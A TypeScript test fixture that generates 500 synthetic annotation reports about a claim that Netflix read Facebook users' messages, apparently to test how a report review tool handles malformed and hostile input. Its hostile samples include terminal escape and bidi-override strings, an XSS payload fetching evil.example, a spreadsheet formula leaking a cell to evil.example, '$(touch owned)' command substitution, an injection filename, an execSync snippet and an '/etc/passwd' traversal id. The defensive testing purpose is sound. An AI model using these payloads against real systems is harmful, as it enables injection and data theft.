/** Five hundred reports as a drop box may hold them after a while: honest ones, careless ones, and those of people who mean harm. */
import { mkdirSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { FaultSort } from '../../../cli/review/report-fault.ts';
import { type Annotation, annotationCollection, annotationOf } from '../../../data/annotation.ts';
import type { Report, ReportKind } from '../../../data/report.ts';

export const LIST = 'netflix-facebook-messages';

/** What a folder of reports was made of. */
export interface Made {
  /** Sort → how many reports or files. */
  malformed: Map<FaultSort, number>;
  /** Names of the files with something malformed, and its place among several reports. */
  bad: { file: string; report: number | null }[];
  files: number;
  /** Of this list, each id once. */
  reports: number;
  duplicates: number;
  /** Another list → how many. */
  otherLists: Record<string, number>;
  /** `claim kind` → the reports of each sentence, whatever its wording. */
  sentences: Map<string, number>;
  /** Ids of reports that no list can take, by the reason. */
  refused: Record<'control' | 'surrogate' | 'override' | 'invisible' | 'words', string>;
}

interface Sentence {
  claim: string;
  kind: ReportKind;
  lang: string;
  text: string;
  /** The same in nearly the same words. */
  reworded: string[];
}

/** Long enough to be reworded; none is near another. */
const SENTENCES: readonly Sentence[] = [
  {
    ...{ claim: 'netflix-read-messages', kind: 'makes-claim', lang: 'en' },
    text: 'For years the film streamer could look over the shoulder of everyone who wrote to a friend on the network.',
    reworded: [
      'For years, the film streamer could look over the shoulder of everyone who wrote to a friend on the network',
      'For years the film streamer could reportedly look over the shoulder of everyone who wrote to a friend on the network.',
    ],
  },
  {
    ...{ claim: 'netflix-read-messages', kind: 'makes-claim', lang: 'fr' },
    text: 'Pendant des années, le site de films a pu lire par-dessus l’épaule de ceux qui écrivaient à leurs proches.',
    reworded: [
      'Pendant des années, le site de films a pu lire par-dessus l’épaule de ceux qui écrivaient à leurs proches !',
      'Pendant des années le site de films a pu lire par-dessus l’épaule de ceux qui écrivaient à tous leurs proches.',
    ],
  },
  {
    ...{ claim: 'netflix-read-messages', kind: 'makes-claim', lang: 'de' },
    text: 'Jahrelang konnte der Filmdienst mitlesen, was sich die Leute in dem Netzwerk abends gegenseitig schrieben.',
    reworded: [
      'Jahrelang konnte der Filmdienst mitlesen, was sich die Leute in diesem Netzwerk abends gegenseitig schrieben.',
    ],
  },
  {
    ...{ claim: 'netflix-read-messages', kind: 'not-claim', lang: 'en' },
    text: 'Netflix sent its own subscribers messages about new shows that they could read on their televisions.',
    reworded: [
      'Netflix sent its own subscribers messages about new shows that they could then read on their televisions.',
    ],
  },
  {
    ...{ claim: 'inbox-api', kind: 'makes-claim', lang: 'en' },
    text: 'Lawyers say Netflix got programmatic access to the message inboxes of Facebook users.',
    reworded: ['The lawyers say Netflix got programmatic access to the message inboxes of Facebook users'],
  },
  {
    ...{ claim: 'ad-spend', kind: 'makes-claim', lang: 'es' },
    text: 'La plataforma de películas llegó a gastar unos cuarenta millones en anuncios dentro de la red social.',
    reworded: [
      'La plataforma de películas llegó a gastar unos cuarenta millones en anuncios dentro de la propia red social.',
    ],
  },
  {
    ...{ claim: 'ad-spend', kind: 'out-of-date', lang: 'en' },
    text: 'Newer court papers give another figure for what the streaming company paid for its advertisements.',
    reworded: [],
  },
  {
    ...{ claim: 'stone-denial', kind: 'not-claim', lang: 'pt' },
    text: 'O porta-voz da empresa negou na semana passada que haveria novas demissões neste ano no Brasil.',
    reworded: [],
  },
];

/** A linear congruential generator: the same reports at every run. */
class Chance {
  #seed: number;

  constructor(seed: number) {
    this.#seed = seed;
  }

  below(limit: number): number {
    this.#seed = (Math.imul(this.#seed, 1664525) + 1013904223) >>> 0;
    return Math.floor((this.#seed / 2 ** 32) * limit);
  }

  of<T>(values: readonly T[]): T {
    return values[this.below(values.length)] as T;
  }
}

/** A UUID that tells its number; the first eight characters are its own. */
export function idOf(number: number): string {
  const own = (Math.imul(number + 1, 2654435761) >>> 0).toString(16).padStart(8, '0');
  return `${own}-0000-4000-8000-${String(number).padStart(12, '0')}`;
}

export function reportOf(number: number, more: Partial<Report> = {}): Report {
  return {
    ...{ id: idOf(number), kind: 'makes-claim', list: LIST, claim: 'netflix-read-messages' },
    quote: { exact: 'The film streamer peeked at what people wrote to each other.', prefix: 'It rained. ', suffix: '' },
    ...{ lang: 'en', page: 'https://news.example/story', note: '', listVersion: 1, engine: '0.1.0', score: 0.2 },
    created: '2026-03-01T10:00:00Z',
    ...more,
  };
}

const HONEST = 393;
const TWICE = 30;
const OTHER_LISTS = 25;

/** Writes 500 reports into `folder`, most of them a file each, and says what they are. */
export function makeReports(folder: string): Made {
  const chance = new Chance(5);
  const made: Made = {
    ...{ malformed: new Map(), bad: [], files: 0, reports: 0, duplicates: TWICE, otherLists: {}, sentences: new Map() },
    refused: { control: '', surrogate: '', override: '', invisible: '', words: '' },
  };
  const write = (name: string, content: string | Uint8Array) => {
    const path = join(folder, name);
    mkdirSync(join(path, '..'), { recursive: true });
    writeFileSync(path, content);
    made.files++;
    return path;
  };
  const count = (key: string) => made.sentences.set(key, (made.sentences.get(key) ?? 0) + 1);

  const honest = Array.from({ length: HONEST }, (_, number) => {
    const sentence = SENTENCES[number % SENTENCES.length] as Sentence;
    const exact = chance.below(3) === 0 ? chance.of([sentence.text, ...sentence.reworded]) : sentence.text;
    count(`${sentence.claim} ${sentence.kind} ${sentence.lang}`);
    return reportOf(number, {
      ...{ kind: sentence.kind, claim: sentence.claim, lang: chance.below(10) === 0 ? '' : sentence.lang },
      quote: { exact, prefix: '', suffix: '' },
      page: chance.of([
        ...['', `https://news.example/${number % 7}`, `https://zeitung.example/artikel/${number % 3}`],
        'https://journal.example/',
      ]),
      note: chance.below(5) === 0 ? `Seen in the evening edition, number ${number % 4}.` : '',
      created: `2026-0${1 + chance.below(8)}-1${chance.below(10)}T1${chance.below(10)}:00:00Z`,
    });
  });
  // Thirty of them twice, as retries that a server has not known.
  const twice = honest.slice(0, TWICE);
  const others = Array.from({ length: OTHER_LISTS }, (_, i) => {
    const list = i % 5 === 0 ? '__proto__' : 'ferry';
    return reportOf(1000 + i, { list, claim: 'dumped' });
  });
  made.otherLists = Object.fromEntries([
    ['ferry', 20],
    ['__proto__', 5],
  ]);

  const single = honest.slice(0, 350);
  for (const report of single) write(`${String(report.id)}.jsonld`, JSON.stringify(annotationOf(report)));
  for (const report of twice) write(`retries/${report.id}.jsonld`, JSON.stringify(annotationOf(report)));
  for (const report of others) write(`others/${report.id}.json`, JSON.stringify(annotationOf(report)));
  write('export.json', JSON.stringify(annotationCollection(idOf(9000), honest.slice(350, 375))));
  write('array.json', `\uFEFF${JSON.stringify(honest.slice(375, 390).map(annotationOf), null, 2)}`);
  const page = { type: 'AnnotationPage', items: honest.slice(390).map(annotationOf) };
  write('page.jsonld', JSON.stringify(page));

  // What belongs to a server, or is no report by its name, is not looked at.
  for (const name of ['.meta', '.acl', '.sidenote-lock.json', 'a.jsonld.meta', 'readme.txt', '.internal/x.json']) {
    write(name, 'not a report');
    made.files--;
  }
  made.reports = HONEST;
  addMalformed(made, write);
  addHostile(made, write, count);
  return made;
}

type Write = (name: string, content: string | Uint8Array) => string;

/** Forty reports or files that are left out. */
function addMalformed(made: Made, write: Write): void {
  let number = 2000;
  const bad = (sort: FaultSort, name: string, content: string | Uint8Array, report: number | null = null) => {
    made.malformed.set(sort, (made.malformed.get(sort) ?? 0) + 1);
    made.bad.push({ file: name, report });
    return write(`bad/${name}`, content);
  };
  /** An annotation with something done to it. */
  const spoilt = (change: (annotation: Record<string, unknown> & Annotation) => void, more: Partial<Report> = {}) => {
    const annotation = annotationOf(reportOf(number++, more)) as Record<string, unknown> & Annotation;
    change(annotation);
    return JSON.stringify(annotation);
  };
  const whole = () => spoilt(() => undefined);
  const own = (key: string) => whole().replace('{', `{${JSON.stringify(key)}:{"polluted":true},`);

  bad('empty', 'nothing.json', '');
  bad('empty', 'blank.jsonld', ' \r\n\t ');
  bad(
    'not-text',
    'picture.json',
    Uint8Array.from({ length: 600 }, (_, i) => (i * 37) % 256),
  );
  bad('not-text', 'utf-16.json', Buffer.from(`\uFEFF${whole()}`, 'utf16le'));
  bad('not-json', 'truncated.jsonld', whole().slice(0, 300));
  bad('not-json', 'half-an-array.json', `[${whole()},`);
  bad('not-json', 'page.json', '<!doctype html><title>502 Bad Gateway</title>');
  bad('not-json', 'escape.json', '\u001b]0;owned\u0007\u001b[2J\u009b31m');
  bad('not-json', 'nul.json', '\0\0\0\0');
  bad('not-json', 'program.json', 'module.exports = require("child_process").execSync("touch owned")');
  bad('not-json', 'evil\u001b[31m\u202egpj.json', 'no');
  bad('not-json', '; touch owned; #.json', 'no');
  // Fifty megabytes that take no room on the disk.
  truncateSync(bad('too-large', 'fifty-megabytes.json', ' '), 50 * 1024 * 1024);
  bad('too-large', 'many.json', `[${'0,'.repeat(40_000)}0]`);
  bad('too-deep', 'brackets.json', '['.repeat(200_000) + ']'.repeat(200_000));
  bad(
    'too-deep',
    'deep-body.jsonld',
    whole().replace('"body":[', `"extra":${'{"a":'.repeat(5000)}1${'}'.repeat(5000)},"body":[`),
  );
  bad('forbidden-key', 'proto.jsonld', own('__proto__'));
  bad('forbidden-key', 'constructor.jsonld', own('constructor'));
  bad(
    'forbidden-key',
    'inner-proto.jsonld',
    whole().replace('"selector":{', '"selector":{"__proto__":{"polluted":true},'),
  );
  bad('form', 'null.json', 'null');
  bad('form', 'number.json', '42');
  bad('form', 'string.json', '"makes-claim"');
  bad('form', 'object.json', '{}');
  bad(
    'form',
    'no-type.jsonld',
    spoilt((one) => Reflect.deleteProperty(one, 'type')),
  );
  bad(
    'form',
    'no-target.jsonld',
    spoilt((one) => Reflect.deleteProperty(one, 'target')),
  );
  bad(
    'form',
    'target-string.jsonld',
    spoilt((one) => Object.assign(one, { target: 'https://news.example/' })),
  );
  bad(
    'form',
    'no-selector.jsonld',
    spoilt((one) => Object.assign(one.target, { selector: [] })),
  );
  bad(
    'form',
    'exact-number.jsonld',
    spoilt((one) => Object.assign(one.target.selector, { exact: 7 })),
  );
  bad(
    'form',
    'exact-empty.jsonld',
    spoilt((one) => Object.assign(one.target.selector, { exact: '' })),
  );
  bad(
    'form',
    'exact-long.jsonld',
    spoilt((one) => Object.assign(one.target.selector, { exact: 'a '.repeat(500_000) })),
  );
  bad(
    'form',
    'prefix-long.jsonld',
    spoilt((one) => Object.assign(one.target.selector, { prefix: 'x'.repeat(1000) })),
  );
  bad(
    'form',
    'note-long.jsonld',
    spoilt((one) => Object.assign(one.body[3] ?? {}, { value: 'n'.repeat(3000) }), { note: 'n' }),
  );
  bad(
    'form',
    'score-two.jsonld',
    spoilt(() => undefined, { score: 2 }),
  );
  bad(
    'form',
    'body-text.jsonld',
    spoilt((one) => Object.assign(one, { body: 'makes-claim' })),
  );
  bad(
    'form',
    'created-yesterday.jsonld',
    spoilt(() => undefined, { created: 'yesterday' }),
  );
  bad(
    'date',
    'next-century.jsonld',
    spoilt(() => undefined, { created: '2126-01-01T00:00:00Z' }),
  );
  bad(
    'date',
    'thirteenth-month.jsonld',
    spoilt(() => undefined, { created: '2026-13-45T99:00:00Z' }),
  );
  bad(
    'unknown-claim',
    'claim-gone.jsonld',
    spoilt(() => undefined, { claim: 'no-such-claim' }),
  );
  bad(
    'unknown-claim',
    'claim-proto.jsonld',
    spoilt(() => undefined, { claim: '__proto__' }),
  );
  const among = [0, 1, 2].map(() => JSON.parse(whole()) as Annotation);
  Object.assign(among[1] ?? {}, { type: 'Note' });
  bad('form', 'one-of-three.json', JSON.stringify(among), 2);
  made.reports += 2;
  made.sentences.set('netflix-read-messages makes-claim en peeked', 2);
}

/** Ten that are reports in form, and mean harm to whoever prints them or takes them. */
function addHostile(made: Made, write: Write, count: (key: string) => void): void {
  let number = 3000;
  const hostile = (exact: string, more: Partial<Report> = {}) => {
    const report = reportOf(number++, { quote: { exact, prefix: '', suffix: '' }, ...more });
    write(`hostile/${number}.jsonld`, JSON.stringify(annotationOf(report)));
    made.reports++;
    count(`hostile ${number}`);
    return report.id;
  };
  made.refused.control = hostile(
    'Netflix \u001b[2J\u001b]0;owned\u0007 read \u0000 the \u009b31m letters that people wrote at night.',
  );
  made.refused.surrogate = hostile('Netflix opened \ud83d the envelopes of everybody who lived in the street.');
  made.refused.override = hostile('Netflix \u202edaer\u202c every single word that was whispered in the corridors.');
  made.refused.invisible = hostile('Netflix listened\u{e0041}\u{e0042} at the doors of those who would not subscribe.');
  made.refused.words = hostile('🙈 🙉 🙊 1234');
  hostile('<script>fetch("https://evil.example/")</script><img src=x onerror=alert(1)> Netflix steamed letters open.');
  hostile('=HYPERLINK("https://evil.example/?"&A1,"Netflix kept copies of what the neighbours said")');
  hostile('The postman told Netflix what stood on the back of every card.', {
    ...{
      note: '\u001b[8m$(touch owned) `touch owned` \u2066\u202e',
      lang: '\u001b[31m',
      page: 'https://evil.example/\u009b',
    },
  });
  hostile('Somebody at Netflix knew the contents of the parcels before they came.', {
    id: '../../../../etc/passwd\u001b[1m',
  });
  hostile('Netflix had a key to every letter box between the station and the market.', { lang: 'zz-constructor' });
}
